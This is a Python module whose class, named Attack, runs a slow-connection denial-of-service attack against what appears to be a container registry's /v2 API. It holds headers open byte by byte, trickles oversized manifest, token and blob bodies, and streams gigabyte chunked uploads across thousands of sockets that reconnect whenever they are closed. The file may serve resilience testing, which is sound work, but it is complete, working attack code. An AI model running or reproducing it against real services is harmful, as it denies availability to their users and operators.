"""Slow connections by the thousand: heads, bodies and uploads that hardly move."""

import asyncio
import os
import time
from collections import Counter
from urllib.parse import urlsplit

UPLOAD_BYTES = 1 << 30
STEP_SECONDS = 0.5


class Attack:
    """All slow sockets and uploads of one run."""

    def __init__(self, options, token, sessions):
        self.options, self.token = options, token
        self.sessions = sessions
        parts = urlsplit(options.url)
        self.host, self.port = parts.hostname, parts.port or 80
        self.counts = Counter()
        self.sent_bytes = 0
        self.open_now = 0

    async def trickle(self, kind, head, delay):
        """Connects, sends a beginning, then one byte at a time; again when it is closed."""
        await asyncio.sleep(delay)
        while True:
            writer = None
            try:
                reader, writer = await asyncio.open_connection(self.host, self.port)
                self.open_now += 1
                writer.write(head)
                watcher = asyncio.ensure_future(reader.read(64))
                while not watcher.done():
                    await asyncio.wait({watcher}, timeout=self.options.pause)
                    if not watcher.done():
                        writer.write(b"x")
                        self.counts[f"{kind}: bytes"] += 1
                answer = watcher.result()
                status = answer.split(b" ", 2)[1].decode() if answer.startswith(b"HTTP/") else "closed"
                self.counts[f"{kind}: {status}"] += 1
            except OSError as error:
                self.counts[f"{kind}: {type(error).__name__}"] += 1
            finally:
                if writer:
                    self.open_now -= 1
                    writer.close()
            await asyncio.sleep(1)

    async def upload(self, number, target, delay):
        """One chunked PATCH at the given rate."""
        await asyncio.sleep(delay)
        step = max(1, int(self.options.rate * STEP_SECONDS))
        chunk = b"%x\r\n%s\r\n" % (step, os.urandom(step))
        writer = None
        try:
            reader, writer = await asyncio.open_connection(self.host, self.port)
            self.open_now += 1
            writer.write(self.head("PATCH", target) + b"Transfer-Encoding: chunked\r\n\r\n")
            answer = asyncio.ensure_future(reader.read(200))
            for _ in range(UPLOAD_BYTES // step):
                began = time.monotonic()
                writer.write(chunk)
                await writer.drain()
                self.sent_bytes += step
                self.counts["uploads: chunks"] += 1
                if answer.done():
                    self.counts[f"uploads: answered {answer.result()[9:12].decode() or 'by closing'}"] += 1
                    return
                await asyncio.sleep(max(0, STEP_SECONDS - (time.monotonic() - began)))
        except OSError as error:
            self.counts[f"uploads: {type(error).__name__}"] += 1
        finally:
            if writer:
                self.open_now -= 1
                writer.close()

    def head(self, method, target):
        return (f"{method} {target} HTTP/1.1\r\nHost: {self.host}:{self.port}\r\nUser-Agent: slow\r\n"
                f"Authorization: Bearer {self.token}\r\n").encode()

    def beginnings(self):
        """(kind, first bytes) of the sockets, by turns."""
        repository = "clients/slow-body"
        sized = b"Content-Length: %d\r\n\r\n"
        bodies = [
            ("manifest", lambda at: self.head("PUT", f"/v2/{repository}/manifests/slow")
             + b"Content-Type: application/vnd.oci.image.manifest.v1+json\r\n" + sized % 4_000_000 + b"{"),
            ("token", lambda at: self.head("POST", "/v2/auth")
             + b"Content-Type: application/x-www-form-urlencoded\r\n" + sized % 60_000 + b"a="),
            ("blob", lambda at: self.head("PATCH", self.sessions[at]) + sized % UPLOAD_BYTES + b"x"),
        ]
        blobs = 0
        for number in range(self.options.sockets):
            if number % 2 == 0:
                yield "head", f"GET /v2/ HTTP/1.1\r\nHost: {self.host}\r\nX-Slow: ".encode()
                continue
            kind, make = bodies[number // 2 % len(bodies)]
            yield "body of a " + kind, make(blobs)
            blobs += kind == "blob"

    async def run(self, seconds, watch):
        ramp = min(5.0, seconds / 4)
        tasks = [
            asyncio.ensure_future(self.trickle(kind, head, ramp * at / max(1, self.options.sockets)))
            for at, (kind, head) in enumerate(self.beginnings())]
        uploads = self.sessions[-self.options.uploads:] if self.options.uploads else []
        tasks += [
            asyncio.ensure_future(self.upload(at, target, ramp * at / max(1, len(uploads))))
            for at, target in enumerate(uploads)]
        until = time.monotonic() + seconds
        while time.monotonic() < until:
            await asyncio.sleep(min(5, max(0.1, until - time.monotonic())))
            watch()
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
